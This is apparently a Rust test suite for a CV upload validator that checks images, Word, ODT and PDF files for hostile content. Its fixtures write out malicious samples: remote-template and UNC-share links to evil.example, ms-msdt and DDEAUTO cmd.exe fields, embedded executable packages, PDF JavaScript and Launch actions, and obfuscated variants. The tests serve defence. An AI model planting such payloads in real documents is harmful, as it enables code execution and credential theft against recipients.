use super::*;
use crate::file::tests::{Entry, check, compound, docx, zip};

fn png(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend_from_slice(&width.to_be_bytes());
    bytes.extend_from_slice(&height.to_be_bytes());
    bytes.extend_from_slice(&[8, 2, 0, 0, 0]);
    bytes
}

/// A JPEG whose frame header follows segments of these lengths.
fn jpeg(before: &[u16], width: u16, height: u16) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xD8];
    for length in before {
        bytes.extend_from_slice(&[0xFF, 0xE1]);
        bytes.extend_from_slice(&length.to_be_bytes());
        bytes.resize(bytes.len() + usize::from(*length) - 2, 0);
    }
    bytes.extend_from_slice(&[0xFF, 0xC2, 0, 17, 8]);
    bytes.extend_from_slice(&height.to_be_bytes());
    bytes.extend_from_slice(&width.to_be_bytes());
    bytes.extend_from_slice(&[3; 12]);
    bytes
}

/// Checks a complete file as the Worker does.
fn deeply(name: &str, bytes: &[u8]) -> Result<FileKind, FileProblem> {
    let kind = check(name, bytes)?;
    let ends = Ends::of(bytes);
    let mut scan = Scan::default();
    bytes.chunks(1000).for_each(|piece| scan.feed(piece));
    let looked = std::pin::pin!(super::check(kind, &ends, bytes, scan));
    let std::task::Poll::Ready(Ok(looked)) =
        Future::poll(looked, &mut std::task::Context::from_waker(std::task::Waker::noop()))
    else {
        panic!("bytes that are there are read at once");
    };
    looked.map(|()| kind)
}

#[test]
fn an_oversized_picture_is_rejected_by_its_header() {
    assert_eq!(deeply("me.png", &png(4000, 3000)), Ok(FileKind::Png));
    assert_eq!(check("me.png", &png(50_000, 50_000)), Err(FileProblem::Pixels));
    assert_eq!(check("me.png", &png(u32::MAX, u32::MAX)), Err(FileProblem::Pixels));
    assert_eq!(check("me.png", &png(0, 9)), Err(FileProblem::Content));
    assert_eq!(deeply("me.jpeg", &jpeg(&[100, 2000], 4000, 3000)), Ok(FileKind::Jpg));
    assert_eq!(check("me.jpg", &jpeg(&[100], 65_535, 65_535)), Err(FileProblem::Pixels));
    // Beyond the bytes that the page reads: only the Worker can tell.
    let far = jpeg(&[60_000, 60_000, 60_000], 65_535, 65_535);
    assert_eq!(check("me.jpg", &far), Ok(FileKind::Jpg));
    assert_eq!(deeply("me.jpg", &far), Err(FileProblem::Pixels));
    assert_eq!(deeply("me.jpg", &jpeg(&[60_000, 60_000], 10, 10)), Ok(FileKind::Jpg));
    assert_eq!(
        deeply("me.jpg", &[0xFF, 0xD8, 0xFF, 0xD9, 0, 0, 0, 0, 0, 0, 0, 0]),
        Err(FileProblem::Content)
    );
    let both = [jpeg(&[], 10, 10), docx(&[])].concat();
    assert_eq!(check("me.jpg", &both), Err(FileProblem::Unsafe), "a picture and an archive");
}

/// Checks a DOCX with these parts.
fn with(parts: &[(&str, &[u8])]) -> Result<FileKind, FileProblem> {
    let entries: Vec<Entry<'_>> =
        parts.iter().map(|(name, bytes)| (*name, bytes.len() as u32, *bytes, 0)).collect();
    deeply("cv.docx", &docx(&entries))
}

fn relation(kind: &str, target: &str, mode: &str) -> String {
    format!(
        r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>"#
    )
}

const SETTINGS: &str = "word/_rels/settings.xml.rels";
const GOOD: Result<FileKind, FileProblem> = Ok(FileKind::Docx);
const BAD: Result<FileKind, FileProblem> = Err(FileProblem::Unsafe);

#[test]
fn relationships_are_checked_by_type_and_target() {
    let rows = [
        ("attachedTemplate", "http://evil.example/t.dotm", "External", BAD),
        ("attachedTemplate", r"\\evil.example\share\t.dotm", "External", BAD),
        ("attachedTemplate", r"file:///C:\Users\ada\Templates\CV.dotx", "External", GOOD),
        ("attachedTemplate", "Normal.dotm", "External", GOOD),
        ("attachedTemplate", "Macintosh HD:Users:ada:CV.dot", "External", GOOD),
        ("oleObject", "https://evil.example/x.html!", "External", BAD),
        ("subDocument", "http://evil.example/x", "External", BAD),
        ("frame", "http://evil.example/x", "External", BAD),
        ("frame", "page.htm", "External", GOOD),
        ("hyperlink", "https://example.org", "External", GOOD),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", "External", BAD),
        ("image", "https://example.org/me.png", "External", GOOD),
        ("image", r"\\evil.example\share\me.png", "External", BAD),
        ("aFChunk", "http://evil.example/x.docm", "External", BAD),
        ("vbaProject", "other.bin", "Internal", Err(FileProblem::Macros)),
    ];
    for (kind, target, mode, want) in rows {
        let text = relation(kind, target, mode);
        assert_eq!(with(&[(SETTINGS, text.as_bytes())]), want, "{kind} {target}");
    }
}

#[test]
fn ole_objects_are_checked_by_content() {
    let package: &[u8] = b"\x40\0\0\0\x02\0cv.txt\0C:\\cv.txt\0\0\0\x03\0";
    let picture: &[u8] = b"\x40\0\0\0BM\x36\0\0\0\0\0";
    let link: &[u8] =
        &[0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B];
    let named = "word/embeddings/oleObject1.bin";
    let relation = relation("oleObject", "other.dat", "Internal");
    let rows = [
        (compound(&[("\u{1}Ole10Native", Some(package))]), BAD),
        (compound(&[("\u{1}Ole10Native", Some(picture))]), GOOD),
        (compound(&[("\u{1}Ole", Some(link))]), BAD),
        (compound(&[("Workbook", Some(b"x"))]), GOOD),
        (b"x".to_vec(), BAD),
    ];
    for (object, want) in rows {
        assert_eq!(with(&[(named, &object)]), want);
        let related: [(&str, &[u8]); 2] =
            [("word/_rels/document.xml.rels", relation.as_bytes()), ("word/other.dat", &object)];
        assert_eq!(with(&related), want);
    }
    assert_eq!(with(&[("word/activeX/activeX1.xml", b"x")]), BAD);
}

#[test]
fn relationships_are_found_in_all_xml_encodings() {
    let text = relation("attachedTemplate", "http://evil.example/t.dotm", "External");
    let utf16 = |order: fn(u16) -> [u8; 2]| -> Vec<u8> {
        format!("\u{FEFF}{text}").encode_utf16().flat_map(order).collect()
    };
    let charref = text.replace("attachedTemplate", "attachedTemplat&#101;");
    let hex = text.replace("http", "&#x68;ttp");
    let marked = format!("\u{FEFF}{text}");
    let written: [&[u8]; 5] = [
        &utf16(u16::to_le_bytes),
        &utf16(u16::to_be_bytes),
        charref.as_bytes(),
        hex.as_bytes(),
        marked.as_bytes(),
    ];
    for bytes in written {
        assert_eq!(with(&[(SETTINGS, bytes)]), BAD);
    }
    assert_eq!(with(&[("word/_RELS/settings.xml.RELS", text.as_bytes())]), BAD);
    let entity = format!("<!DOCTYPE r [<!ENTITY h \"http\">]>{text}");
    assert_eq!(with(&[(SETTINGS, entity.as_bytes())]), BAD, "entities of its own");
    assert_eq!(with(&[(SETTINGS, b"<Relationships><Rel")]), Err(FileProblem::Content));
}

#[test]
fn split_fields_are_joined_before_the_check() {
    let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let field = |text: &str| {
        format!(
            "<w:document><w:fldChar w:fldCharType=\"begin\"/>{text}<w:fldChar w:fldCharType=\"separate\"/>x<w:fldChar w:fldCharType=\"end\"/></w:document>"
        )
    };
    let bad = [
        field(&run("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
        field(&format!("{}{}", run("D"), run("DEAUTO excel"))),
        field(&run(" ddeauto excel")),
        field(&run("&#68;DE excel")),
        field(&run("<![CDATA[DDE excel]]>")),
        "<w:document><w:fldSimple w:instr=\"DDE excel\"/></w:document>".to_owned(),
        field(&run("INCLUDEPICTURE \"\\\\\\\\evil.example\\\\a.png\"")),
        "<w:document><v:imagedata src=\"\\\\evil.example\\a.png\"/></w:document>".to_owned(),
    ];
    let parts =
        ["word/header1.xml", "word/footnotes.xml", "word/document9.xml", "word/comments.xml"];
    for text in &bad {
        for part in parts {
            assert_eq!(with(&[(part, text.as_bytes())]), BAD, "{part} {text}");
        }
    }
    let fine = [
        "<w:document><w:t>DDEAUTO is a field that I know</w:t></w:document>".to_owned(),
        field(&run("INCLUDEPICTURE \"https://example.org/me.png\"")),
        field(&run("PAGE")).replace(">x<", "><w:t>DDEAUTO</w:t><"),
    ];
    for text in &fine {
        assert_eq!(with(&[("word/header1.xml", text.as_bytes())]), GOOD, "{text}");
    }
}

#[test]
fn the_main_part_comes_from_the_relationships() {
    let types = ("[Content_Types].xml", 1, &b"x"[..], 0);
    let root = relation("officeDocument", "/text/Main.xml", "Internal");
    let root = ("_rels/.rels", root.len() as u32, root.as_bytes(), 0);
    let main = |text: &'static str| ("text/main.xml", text.len() as u32, text.as_bytes(), 0);
    let document = zip(&[types, root, main("<w:document/>")]);
    assert_eq!(deeply("cv.docx", &document), GOOD);
    let sheet = zip(&[types, root, main("<workbook/>")]);
    assert_eq!(deeply("cv.docx", &sheet), Err(FileProblem::Content));
    let field = "<w:document><w:fldSimple w:instr='DDE x'/></w:document>";
    assert_eq!(deeply("cv.docx", &zip(&[types, root, main(field)])), BAD);
    assert_eq!(deeply("cv.docx", &zip(&[types])), Err(FileProblem::Content));
}

#[test]
fn embedded_html_is_accepted_and_embedded_rtf_is_not() {
    let chunk = relation("aFChunk", "chunk.dat", "Internal");
    let inside = |bytes: &[u8]| {
        with(&[("word/_rels/document.xml.rels", chunk.as_bytes()), ("word/chunk.dat", bytes)])
    };
    assert_eq!(inside(b"MIME-Version: 1.0"), GOOD);
    assert_eq!(inside(b"{\\rtf1 x}"), BAD);
}

#[test]
fn a_file_over_its_budget_is_rejected_in_bounded_memory() {
    use miniz_oxide::deflate::compress_to_vec;
    let deflated = |text: &[u8]| {
        let packed = compress_to_vec(text, 9);
        let mut bytes = docx(&[("word/document2.xml", 100, &packed, 0)]);
        // Compressed, according to the directory.
        let at = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
        bytes[at + 10] = 8;
        deeply("cv.docx", &bytes)
    };
    assert_eq!(deflated(&[b"<w:document>".to_vec(), vec![b'x'; UNPACKED_MAX / 2]].concat()), GOOD);
    assert_eq!(deflated(&[b"<w:document>".to_vec(), vec![b'x'; UNPACKED_MAX]].concat()), BAD);
    assert_eq!(deflated(&[b"<w:document ".to_vec(), vec![b'x'; 2_000_000]].concat()), BAD);
}

#[test]
fn odt_scripts_objects_and_links_are_checked() {
    let odt = |parts: &[(&str, &[u8])]| {
        let mut all: Vec<(&str, &[u8])> = vec![("content.xml", b"<office:text/>")];
        all.extend_from_slice(parts);
        all.push(("mimetype", b"application/vnd.oasis.opendocument.text"));
        let entries: Vec<_> = all.iter().map(|(n, b)| (*n, b.len() as u32, *b, 0)).collect();
        deeply("cv.odt", &zip(&entries))
    };
    let fine = Ok(FileKind::Odt);
    assert_eq!(odt(&[]), fine, "a media type that is not first");
    let module = |code: &str| {
        format!("<script:module>Rem by Word\nOption VBASupport 1\n{code}</script:module>")
    };
    let basic = "Basic/Standard/ThisDocument.xml";
    assert_eq!(odt(&[(basic, module("").as_bytes())]), fine);
    assert_eq!(odt(&[(basic, module("Sub Main").as_bytes())]), Err(FileProblem::Macros));
    assert_eq!(odt(&[("Basic/script-lc.xml", b"<library:libraries/>")]), fine);
    assert_eq!(odt(&[("Scripts/python/a.py", b"x")]), Err(FileProblem::Macros));
    let package: &[u8] = b"\x40\0\0\0\x02\0cv.txt\0C:\\cv.txt\0\0\0\x03\0";
    let picture: &[u8] = b"\x40\0\0\0BM\x36\0\0\0\0\0";
    for (native, want) in [(package, Err(FileProblem::Unsafe)), (picture, fine)] {
        let object = compound(&[("\u{1}Ole10Native", Some(native))]);
        assert_eq!(odt(&[("Object 1", &object)]), want);
    }
    let texts = [
        ("<text:a xlink:href='https://example.org'/>", fine),
        ("<draw:image xlink:href='https://example.org/me.png'/>", fine),
        ("<draw:image xlink:href='//evil.example/me.png'/>", Err(FileProblem::Unsafe)),
        ("<draw:object xlink:href='http://evil.example/x'/>", Err(FileProblem::Unsafe)),
        ("<text:section-source xlink:href='http://evil.example/x'/>", Err(FileProblem::Unsafe)),
        ("<office:dde-source/>", Err(FileProblem::Unsafe)),
        ("<script:event-listener xlink:href='vnd.sun.star.script:x'/>", Err(FileProblem::Macros)),
        ("<text:p>vnd.sun.star.script: I wrote one</text:p>", fine),
    ];
    for (text, want) in texts {
        assert_eq!(odt(&[("styles.xml", text.as_bytes())]), want, "{text}");
    }
    let locked = b"<manifest:encryption-data/>";
    assert_eq!(odt(&[("META-INF/manifest.xml", locked)]), Err(FileProblem::Encrypted));
}

#[test]
fn doc_streams_are_checked() {
    let doc = |entries: &[(&str, Option<&[u8]>)]| deeply("cv.doc", &compound(entries));
    let text: &[u8] = &[0xEC, 0xA5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    let locked: &[u8] = &[0xEC, 0xA5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
    let document = ("WordDocument", Some(text));
    assert_eq!(doc(&[document]), Ok(FileKind::Doc));
    assert_eq!(doc(&[document, ("Macros", None)]), Ok(FileKind::Doc));
    assert_eq!(doc(&[("WordDocument", Some(locked))]), Err(FileProblem::Encrypted));
    assert_eq!(doc(&[("Workbook", Some(b"x"))]), Err(FileProblem::Content));
    let package: &[u8] = b"\x40\0\0\0\x02\0cv.exe\0C:\\cv.exe\0\0\0\x03\0";
    assert_eq!(doc(&[document, ("\u{1}Ole10Native", Some(package))]), Err(FileProblem::Unsafe));
    let field: &[u8] = b"\xEC\xA5          \x13 DDEAUTO c:\\\\cmd.exe \x14x\x15";
    assert_eq!(doc(&[("WordDocument", Some(field))]), Err(FileProblem::Unsafe));
    let wrapped = compound(&[("EncryptedPackage", Some(b"x")), ("EncryptionInfo", Some(b"x"))]);
    assert_eq!(check("cv.docx", &wrapped), Err(FileProblem::Encrypted));
}

/// A PDF whose first object is a compressed object stream with this text.
fn object_stream(text: &str, dictionary: &str) -> Vec<u8> {
    let packed = miniz_oxide::deflate::compress_to_vec_zlib(text.as_bytes(), 9);
    let head = format!("%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4{dictionary}>>stream\n");
    [head.as_bytes(), &packed, b"\nendstream endobj\n%%EOF"].concat()
}

#[test]
fn pdf_scripts_are_found_and_checked_everywhere() {
    let pdf = |text: &str| deeply("cv.pdf", format!("%PDF-1.7\n{text}\n%%EOF").as_bytes());
    let (fine, harm) = (Ok(FileKind::Pdf), Err(FileProblem::Unsafe));
    let flate = "/Filter/FlateDecode";
    let rows = [
        (pdf("1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"), harm),
        (pdf("1 0 obj<</S/JavaScript/JS(AFNumber_Format\\(2, 0\\);)>>endobj"), fine),
        (pdf("1 0 obj<</Names<</JavaScript 3 0 R>>>>endobj 3 0 obj<</Names[]>>endobj"), fine),
        (pdf("1 0 obj<</S/JavaScript/JS 2 0 R>>endobj 2 0 obj(app.alert\\(1\\))endobj"), harm),
        (pdf("1 0 obj<</S/JavaScript/JS 2 0 R>>endobj 2 0 obj(AFTime_Format\\(0\\))endobj"), fine),
        (
            pdf(
                "1 0 obj<</JS 2 0 R>>endobj 2 0 obj<</Length 4>>stream\nAFTime_Format(0)\nendstream",
            ),
            fine,
        ),
        (
            pdf(
                "1 0 obj<</JS 2 0 R>>endobj 2 0 obj<</Length 2>>stream\nAFTime_Format(0);app.x\nendstream",
            ),
            harm,
        ),
        (pdf("1 0 obj<</JS 2 0 R>>endobj"), harm),
        (pdf("1 0 obj<</S/Launch/F(cmd.exe)>>endobj"), harm),
        (
            deeply("cv.pdf", &object_stream("2 0 <</S/JavaScript/JS(app.alert\\(1\\))>>", flate)),
            harm,
        ),
        (
            deeply(
                "cv.pdf",
                &object_stream("2 0 <</S/JavaScript/JS(AFTime_Format\\(0\\))>>", flate),
            ),
            fine,
        ),
        (deeply("cv.pdf", &object_stream("2 0 <</JS 2 0 R>>", flate)), harm),
        (deeply("cv.pdf", &object_stream("2 0 (AFTime_Format\\(0\\)) <</JS 2 0 R>>", flate)), fine),
        (deeply("cv.pdf", &object_stream("2 0 <</S/Launch>>", "/Filter[/Fl]")), harm),
        (deeply("cv.pdf", &object_stream("2 0 <<>>", "/Filter/LZWDecode")), harm),
        (deeply("cv.pdf", &object_stream(&" ".repeat(7_000_000), flate)), harm),
        (pdf("/Encrypt 9 0 R"), Err(FileProblem::Encrypted)),
    ];
    for (i, (verdict, want)) in rows.into_iter().enumerate() {
        assert_eq!(verdict, want, "row {i}");
    }
}

#[test]
fn an_archive_attached_to_a_pdf_is_accepted_and_one_appended_is_not() {
    let archive = docx(&[]);
    let inside =
        [b"%PDF-1.7\n1 0 obj<</Length 9>>stream\n", &archive[..], b"\nendstream endobj\nxref"];
    assert_eq!(deeply("cv.pdf", &inside.concat()), Ok(FileKind::Pdf));
    for behind in [&b""[..], b"\n%%EOF"] {
        let both = [b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF", &archive[..], behind].concat();
        assert_eq!(deeply("cv.pdf", &both), BAD);
    }
}
